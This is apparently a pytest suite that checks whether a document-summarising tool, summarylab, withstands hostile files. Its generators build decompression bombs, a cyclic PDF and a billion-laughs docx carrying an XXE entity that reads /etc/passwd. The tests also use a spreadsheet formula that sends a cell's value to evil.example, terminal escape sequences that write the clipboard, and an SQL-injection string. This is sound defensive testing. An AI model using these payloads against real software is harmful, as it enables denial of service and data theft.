"""Hostile files: none may hang, exhaust or poison summarylab.

Each case builds its file here (the generators below, nothing downloaded) and
runs the guarded call in a fresh Python process, which reports its result and
the peak memory of itself and its workers.  The budgets (wall time, peak RSS)
are generous for a shared 2-core machine but far below each failure they
guard against: a cyclic PDF used to hang forever, a 1 GB .docx bomb took 4.4
GB, 100 dense PDF pages held 600 MB.  A regression breaks the budget, not only
the result.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import time
import zipfile
import zlib
from pathlib import Path

import pytest

from .conftest import ROOT, SAMPLE

#: Wall seconds and peak megabytes any hostile case may take.
SECONDS, MEGABYTES = 60, 1500


# --- generators ---------------------------------------------------------------

def pdf_bytes(objects: list[bytes]) -> bytes:
    """A PDF made of the given object bodies (object i+1 is objects[i]), with a valid xref."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def cyclic_pdf(path: Path) -> Path:
    """A 400-byte PDF whose page tree is a reference to a reference to itself
    (2 0 R → 3 0 R → 2 0 R): pdfminer's reference resolver loops forever."""
    path.write_bytes(pdf_bytes([b"<< /Type /Catalog /Pages 2 0 R >>", b"3 0 R", b"2 0 R"]))
    return path


def pdf_stream_bomb(path: Path, inflated: int = 300 * 2**20) -> Path:
    """A PDF page whose content stream is 300 KB of zlib that inflates to 300 MB."""
    squeezer = zlib.compressobj(9)
    chunk = b" " * 2**20
    data = b"".join(squeezer.compress(chunk) for _ in range(inflated // len(chunk))) + squeezer.flush()
    path.write_bytes(pdf_bytes([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
    ]))
    return path


def dense_pdf(path: Path, pages: int, lines: int = 60, chars: int = 45) -> Path:
    """A PDF of ``pages`` pages packed with Chinese text and numbers."""
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
    c = canvas.Canvas(str(path))
    unit = "全年投入资金30万元培训妇女400多人覆盖村居15个"
    for page in range(pages):
        c.setFont("STSong-Light", 9)
        for i in range(lines):
            c.drawString(30, 800 - i * 12.5, (unit * 4)[(i + page) % len(unit):][:chars])
        c.showPage()
    c.save()
    return path


def docx_bomb(path: Path, inflated: int = 1024 * 2**20) -> Path:
    """A .docx whose word/document.xml inflates to 1 GB (1 MB on disk)."""
    import docx

    good = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("某县妇联2022年工作总结")
    document.save(good)
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            if item.filename != "word/document.xml":
                dst.writestr(item, src.read(item))
        with dst.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write(b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                     b'wordprocessingml/2006/main"><w:body>')
            chunk = b" " * 2**20
            for _ in range(inflated // len(chunk)):
                fh.write(chunk)
            fh.write(b"</w:body></w:document>")
    return path


def docx_entity_bomb(path: Path) -> Path:
    """A .docx whose document.xml defines nested entities (billion laughs) and an
    external entity pointing at /etc/passwd (XXE)."""
    import docx

    good = io.BytesIO()
    docx.Document().save(good)
    entities = '<!ENTITY a0 "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10))
    xml = ('<?xml version="1.0"?><!DOCTYPE w:document [' + entities
           + '<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
           "<w:body><w:p><w:r><w:t>某县妇联2022年工作总结&a9;&xxe;</w:t></w:r></w:p></w:body></w:document>")
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = xml.encode("utf-8") if item.filename == "word/document.xml" else src.read(item)
            dst.writestr(item, data)
    return path


def endless_line(path: Path, chars: int) -> Path:
    """A report whose body is one line of ``chars`` characters without a stop,
    packed with numbers (a fact every five characters)."""
    unit = "全年投入资金30万元培训妇女400多人覆盖村居15个"
    line = (unit * (chars // len(unit) + 1))[:chars]
    path.write_text("某县妇联2022年工作总结\n一、主要工作\n" + line + "\n", encoding="utf-8")
    return path


def report_with(path: Path, *lines: str) -> Path:
    """A short plausible report with the given lines in its first part."""
    body = "\n".join(lines)
    path.write_text("某县妇联2022年工作总结\n一、主要工作\n" + body
                    + "\n举办培训班3期，培训妇女400多人。\n二、2023年工作计划\n继续实施“春蕾计划”。\n",
                    encoding="utf-8")
    return path


# --- the budget -----------------------------------------------------------------

_PRELUDE = """
import json, resource, sys
from pathlib import Path
from summarylab.readers import Limits, ReadError
def _peak_mb():
    # VmHWM is this process image's own high-water mark; ru_maxrss would also count
    # the memory of the (large) pytest process this one was forked from.
    own = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        with open("/proc/self/status") as fh:
            own = next(int(line.split()[1]) for line in fh if line.startswith("VmHWM:"))
    except (OSError, StopIteration):
        pass
    workers = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return max(own, workers) / 1024
result = {}
"""
_REPORT = "\nresult['peak_mb'] = _peak_mb()\nprint(json.dumps(result, ensure_ascii=False))\n"


def within_budget(code: str, *, seconds: float = SECONDS, megabytes: float = MEGABYTES) -> dict:
    """Run ``code`` (which fills the dict ``result``) in a fresh interpreter; check the budget."""
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-c", _PRELUDE + code + _REPORT], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=seconds * 3)
    wall = time.monotonic() - start
    assert proc.returncode == 0, proc.stderr[-2000:]
    result = json.loads(proc.stdout.strip().splitlines()[-1])
    assert wall < seconds, f"took {wall:.1f} s, budget {seconds} s"
    assert result["peak_mb"] < megabytes, f"peak {result['peak_mb']:.0f} MB, budget {megabytes} MB"
    return result


def guarded(path: Path, limits: str = "Limits()", **budget) -> dict:
    """analyse_guarded(path) under the budget: {'error': one line} or a summary of the analysis."""
    return within_budget(f"""
from summarylab.pipeline import analyse_guarded
try:
    a = analyse_guarded({str(path)!r}, {limits})
    sentences = a.facts["sentence"].str.len()
    result.update(facts=len(a.facts), longest_sentence=int(sentences.max()) if len(a.facts) else 0,
                  sentence_chars=int(sentences.sum()) if len(a.facts) else 0, org=a.document.meta.org)
except ReadError as err:
    result["error"] = str(err)
""", **budget)


def cli(*args: str, stdin: str = "", **budget) -> dict:
    """The console command in a fresh interpreter: exit code, stdout, stderr."""
    return within_budget(f"""
import contextlib, io
from summarylab.cli import main
out, err = io.StringIO(), io.StringIO()
code = 0
with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
    try:
        main({list(args)!r})
    except SystemExit as e:
        code = e.code or 0
result.update(code=code, stdout=out.getvalue(), stderr=err.getvalue())
""", **budget)


def one_line(message: str) -> bool:
    return message.count("\n") <= 1 and message.startswith("summarylab: ") if message else False


# --- files that used to hang or swell ---------------------------------------------

def test_a_cyclic_pdf_is_stopped_by_the_time_limit(tmp_path):
    out = guarded(cyclic_pdf(tmp_path / "cyclic.pdf"), "Limits(timeout=5)")
    assert "took longer than 5 s (the time limit per file)" in out["error"]
    assert "\n" not in out["error"]


def test_a_cyclic_pdf_does_not_hold_up_the_files_after_it(tmp_path):
    folder = tmp_path / "drive"
    folder.mkdir()
    cyclic_pdf(folder / "a_cyclic.pdf")
    (folder / "b_report.txt").write_bytes(SAMPLE.read_bytes())
    store = tmp_path / "s.duckdb"
    out = cli("ingest", str(folder), "--timeout", "5", "--store", str(store))
    assert out["code"] == 0
    assert out["stdout"].startswith("1 new, 0 unchanged, 1 failed")
    assert out["stderr"].strip() == (f"summarylab: {folder / 'a_cyclic.pdf'}: took longer than 5 s "
                                     "(the time limit per file); skipped")


def test_a_pdf_stream_that_inflates_to_300_mb_is_refused(tmp_path):
    out = guarded(pdf_stream_bomb(tmp_path / "bomb.pdf"), megabytes=400)
    assert "decompress to more than 256.0 MB" in out["error"]


def test_a_docx_whose_xml_inflates_to_1_gb_is_refused(tmp_path):
    path = docx_bomb(tmp_path / "bomb.docx")
    assert path.stat().st_size < 4 * 2**20
    out = guarded(path, megabytes=400)
    assert "decompresses to more than 256.0 MB (a zip bomb?)" in out["error"]


def test_dense_pdf_pages_release_their_memory(tmp_path):
    # 80 dense pages held about 500 MB while every page kept its layout cache.
    path = dense_pdf(tmp_path / "dense.pdf", pages=80)
    out = within_budget(f"""
from summarylab.readers import read_file
result["chars"] = len(read_file({str(path)!r}).text)
""", megabytes=250)
    assert out["chars"] > 80 * 60 * 40


def test_a_pdf_beyond_the_page_limit_is_refused(tmp_path):
    out = guarded(dense_pdf(tmp_path / "long.pdf", pages=12, lines=3), "Limits(max_pages=10)")
    assert "PDF has more than 10 pages (the limit): split it" in out["error"]


def test_a_100_kb_line_is_analysed_in_bounded_sentence_windows(tmp_path):
    from summarylab.nlp import MAX_SENTENCE

    out = guarded(endless_line(tmp_path / "line.txt", 100_000), megabytes=800)
    assert out["facts"] > 10_000                     # every number found ...
    assert out["longest_sentence"] <= MAX_SENTENCE   # ... each with a bounded sentence
    assert out["sentence_chars"] <= out["facts"] * MAX_SENTENCE


def test_a_2_mb_line_ends_within_the_time_limit(tmp_path):
    path = endless_line(tmp_path / "line.txt", 820_000)   # 2 MB of UTF-8
    assert path.stat().st_size > 2_000_000
    out = guarded(path, "Limits(timeout=20)")
    assert "error" not in out or "the time limit per file" in out["error"]


def test_a_text_beyond_the_character_limit_is_refused_at_once(tmp_path):
    out = guarded(endless_line(tmp_path / "line.txt", 1_200_000), seconds=30)
    assert "text too long (1,200,0" in out["error"] and "the limit is 1,000,000" in out["error"]


# --- what held, and must keep holding ----------------------------------------------

def test_entity_expansion_and_external_entities_in_docx_go_nowhere(tmp_path):
    out = guarded(docx_entity_bomb(tmp_path / "laughs.docx"), megabytes=600)
    text = out.get("error", "")
    assert "root:" not in text
    if "error" not in out:
        assert out["facts"] == 0


@pytest.mark.parametrize("name, content, reason", [
    ("report.txt", b"", "file is empty"),
    ("report.txt", bytes(range(256)) * 40, "binary"),
    ("report.pdf", "某县妇联2022年工作总结".encode(), "not a valid PDF"),
    ("report.docx", "某县妇联2022年工作总结".encode(), "not a valid .docx"),
    ("report.exe", b"MZ\x90\x00", "unsupported file type"),
])
def test_empty_binary_and_mislabelled_files_fail_with_one_line(tmp_path, name, content, reason):
    path = tmp_path / name
    path.write_bytes(content)
    out = cli("text", str(path))
    assert out["code"] == 1 and one_line(out["stderr"]) and reason in out["stderr"]


# --- poison in exports and on the terminal -----------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&S3,"点击查看")，全年投入资金30万元。'


def test_a_formula_in_a_report_never_reaches_a_spreadsheet_as_a_formula(tmp_path):
    from openpyxl import load_workbook

    path = report_with(tmp_path / "r.txt", FORMULA, "+SUM(1,2)全年培训妇女400人。", "@cmd 走访120户。")
    for name in ("facts.xlsx", "facts.csv"):
        out = cli("facts", str(path), "-o", str(tmp_path / name))
        assert out["code"] == 0, out["stderr"]
    sheet = load_workbook(tmp_path / "facts.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    import csv

    rows = list(csv.reader(io.StringIO((tmp_path / "facts.csv").read_text(encoding="utf-8-sig"))))
    assert not [v for row in rows for v in row if v.startswith(("=", "+", "@", "\t", "\r"))]
    report = tmp_path / "report.xlsx"
    assert cli("report", str(path), str(path), "-o", str(report))["code"] == 0
    cells = [c for ws in load_workbook(report) for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_u_ffff_in_a_sentence_exports_to_xlsx_over_an_old_workbook(tmp_path):
    from openpyxl import load_workbook

    path = report_with(tmp_path / "r.txt", "全年投入\uffff资金30万元。")
    out_file = tmp_path / "facts.xlsx"
    out_file.write_bytes(b"an existing workbook")
    out = cli("facts", str(path), "-o", str(out_file))
    assert out["code"] == 0, out["stderr"]
    ws = load_workbook(out_file).active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert "全年投入资金30万元。" in values and not [v for v in values if "\uffff" in v]


ESCAPES = ("标题\x1b]52;c;ZWNobyBwd25lZA==\x07"       # OSC 52: writes the clipboard
           "\x1b]0;pwned\x07\x1b[2J\x9b31m正文")        # OSC 0 (window title), CSI clear, C1 CSI


FILLER = "全年走访困难妇女儿童家庭120户，发放慰问金4.2万元，帮助解决实际困难35件。" * 10


@pytest.mark.parametrize("args", [["text"], ["outline", "-f", "table"], ["outline", "-f", "jsonl"],
                                  ["facts", "-f", "table"], ["facts", "-f", "csv"], ["plans", "-f", "jsonl"]])
def test_terminal_escapes_in_a_report_never_reach_the_terminal(tmp_path, args):
    path = report_with(tmp_path / "r.txt", "（一）" + ESCAPES + "，投入30万元。", FILLER)
    out = cli(args[0], str(path), *args[1:])
    assert out["code"] == 0, out["stderr"]
    assert not set("\x1b\x07\x9b") & set(out["stdout"])
    if args == ["text"]:   # made visible one for one: the offsets still hold
        assert "标题␛]52;c;ZWNobyBwd25lZA==␇␛]0;pwned␇␛[2J\ufffd31m正文" in out["stdout"]


def test_a_stray_bom_or_zero_width_space_before_a_part_marker_does_not_fold_the_part():
    import summarylab as sl

    for invisible in ("\ufeff", "\u200b", "\u2060"):
        doc = sl.read_text("某县妇联2022年工作总结\n一、主要工作\n（一）办班3期。\n（二）培训400人。\n"
                           f"{invisible}二、存在问题\n（一）阵地薄弱。\n三、2023年工作计划\n继续办班。\n")
        tops = [(s.marker, s.kind) for s in doc.section_list if s.level == 1]
        assert tops == [("一、", "achievements"), ("二、", "problems"), ("三、", "plan")], repr(invisible)
        assert invisible not in doc.text


def test_a_file_name_with_a_line_break_keeps_the_error_on_one_line(tmp_path):
    path = tmp_path / "工作总结\n二、计划.txt"
    path.write_bytes(b"")
    out = cli("text", str(path))
    assert out["code"] == 1
    assert out["stderr"] == f"summarylab: {tmp_path}/工作总结\\n二、计划.txt: file is empty\n"


# --- the store ----------------------------------------------------------------------

def test_a_store_truncated_to_half_is_refused_on_open_with_one_line(tmp_path):
    store = tmp_path / "s.duckdb"
    assert cli("ingest", str(SAMPLE), "--store", str(store))["code"] == 0
    size = store.stat().st_size
    with open(store, "r+b") as fh:
        fh.truncate(size // 2)
    for args in (["list"], ["ingest", str(SAMPLE)], ["text", "0000"]):
        out = cli(*args, "--store", str(store))
        assert out["code"] == 1, args
        assert one_line(out["stderr"]) and "the store is damaged" in out["stderr"], out["stderr"]
        assert out["stdout"] == ""


def test_a_read_only_folder_gives_one_line(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    # root writes into any folder: /proc/self is read-only for everyone.
    where = Path("/proc/self") if os.geteuid() == 0 else folder
    try:
        out = cli("ingest", str(SAMPLE), "--store", str(where / "s.duckdb"))
        assert out["code"] == 1 and one_line(out["stderr"]), out["stderr"]
    finally:
        folder.chmod(0o755)


@pytest.mark.parametrize("ref", ["abcd' OR 1=1 --", "%", "abcd%", "_", "0000"])
def test_sql_looking_doc_id_prefixes_find_nothing(tmp_path, ref):
    store = tmp_path / "s.duckdb"
    assert cli("ingest", str(SAMPLE), "--store", str(store))["code"] == 0
    out = cli("text", ref, "--store", str(store))
    assert out["code"] == 1 and one_line(out["stderr"]) and out["stdout"] == ""
